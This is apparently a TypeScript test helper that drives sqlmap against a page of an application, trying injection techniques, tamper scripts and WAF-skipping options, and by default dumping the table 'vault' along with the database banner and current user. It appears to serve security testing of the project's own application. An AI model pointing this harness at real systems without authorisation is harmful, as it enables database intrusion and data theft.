// sqlmap: an attack tool, against one page of the application.
import { globSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { execute } from '../clients/program.ts'
import type { Engine } from './application/ask.ts'

/** Boolean, error, union, stacked, time, inline query. */
export const TECHNIQUES = ['B', 'E', 'U', 'S', 'T', 'Q'] as const
export type Technique = (typeof TECHNIQUES)[number]

/** Where sqlmap puts its attacks: at each `*`. */
export interface Target {
  readonly path: string
  readonly data?: string
  readonly cookie?: string
  readonly headers?: string
}

export interface Attack {
  readonly engine: Engine
  readonly url: string
  readonly target: Target
  /** Letters of techniques. */
  readonly technique: string
  readonly level: number
  readonly risk: number
  /** Scripts that dress what is sent: space2comment and the like. */
  readonly tamper?: string
  /** Ends with a way in: to read by it would take a second a bit. */
  readonly findsOnly?: boolean
}

export interface Loot {
  /** What it printed, with all that it wrote into files. */
  readonly text: string
  /** It found a place that it can use. */
  readonly isInjectable: boolean
  /** It got to know who the database takes it for, or which version that is. */
  readonly hasFacts: boolean
}

const PATIENCE_MS = 300_000

/** Tries to find a hole, and to get through it the version, the account, and all rows of the table `vault`. */
export async function attack(wish: Attack): Promise<Loot> {
  const folder = mkdtempSync(join(tmpdir(), 'articdbm-sqlmap-'))
  try {
    const { out, err } = await execute('sqlmap', optionsFor(wish, folder), {
      environment: { HOME: folder, XDG_DATA_HOME: folder },
      patienceMs: PATIENCE_MS,
    })
    const files = globSync('**/*.{csv,txt}', { cwd: folder })
    const written = files.map((file) => readFileSync(join(folder, file), 'utf8'))
    return {
      text: [out, err, ...written].join('\n'),
      isInjectable: /identified the following injection point/.test(out),
      hasFacts: /^(?:banner|current user): '.+'/m.test(out),
    }
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

function optionsFor(wish: Attack, folder: string): readonly string[] {
  const { engine, url, target, technique, level, risk, tamper, findsOnly = false } = wish
  const { data, cookie, headers } = target
  const schema = engine === 'postgres' ? 'public' : 'shopfront'
  return [
    ...['-u', `${url}${target.path}`, '--batch', '--flush-session', '--disable-coloring'],
    ...[`--output-dir=${folder}`, '--threads=4', '--time-sec=1', '--timeout=10', '--retries=0'],
    ...[`--technique=${technique}`, `--level=${level}`, `--risk=${risk}`, '--skip-waf'],
    ...[`--dbms=${engine === 'postgres' ? 'postgresql' : 'mysql'}`, '--union-cols=1-6'],
    ...(data === undefined ? [] : [`--data=${data}`]),
    ...(cookie === undefined ? [] : [`--cookie=${cookie}`]),
    ...(headers === undefined ? [] : [`--headers=${headers}`]),
    ...(tamper === undefined ? [] : [`--tamper=${tamper}`]),
    ...(findsOnly ? [] : ['--banner', '--current-user', '--dump', '-D', schema, '-T', 'vault']),
  ]
}
